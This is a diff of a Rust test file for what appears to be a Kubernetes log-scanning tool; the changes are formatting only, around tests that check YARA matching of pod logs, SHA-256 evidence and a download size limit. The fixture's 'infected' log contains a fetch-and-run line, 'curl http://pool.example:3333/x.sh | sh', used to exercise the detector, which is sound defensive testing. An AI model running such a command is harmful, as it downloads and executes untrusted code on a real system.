@@ -132,8 +132,14 @@ impl AcceptGeneric for TestServer {
 async fn a_scan_of_collected_pod_logs_records_the_match_as_evidence_with_the_logs_sha256() {
     let fake = FakeKube::start().await;
     fake.accept_tokens(&[TOKEN]).await;
-    fake.seed(&[kube::pod("shop", "web-1", "node-1", &["app", "sidecar"], None)])
-        .await;
+    fake.seed(&[kube::pod(
+        "shop",
+        "web-1",
+        "node-1",
+        &["app", "sidecar"],
+        None,
+    )])
+    .await;
     let infected = format!("GET /healthz 200\ncurl http://pool.example:3333/x.sh | sh\n{MARKER}\n");
     let clean = "proxy up\nGET /healthz 200\n";
     fake.log("shop", "web-1", "app", false, &infected).await;
@@ -193,7 +199,11 @@ steps:
         .iter()
         .filter(|e| e["kind"] == "yara-match")
         .collect();
-    assert_eq!(matches.len(), 1, "only the infected log matched: {evidence:?}");
+    assert_eq!(
+        matches.len(),
+        1,
+        "only the infected log matched: {evidence:?}"
+    );
     let found = matches[0];
     assert_eq!(found["rules"], json!(["cordon_test_artifact"]));
     assert_eq!(found["sha256"], sha256(&infected));
@@ -259,8 +269,7 @@ steps:
     );
     let downloaded = steps["downloaded"]["error"].as_str().unwrap_or_default();
     assert!(
-        downloaded.contains("larger than the 1024 bytes")
-            && downloaded.contains("yara.max_bytes"),
+        downloaded.contains("larger than the 1024 bytes") && downloaded.contains("yara.max_bytes"),
         "{}",
         steps["downloaded"]
     );
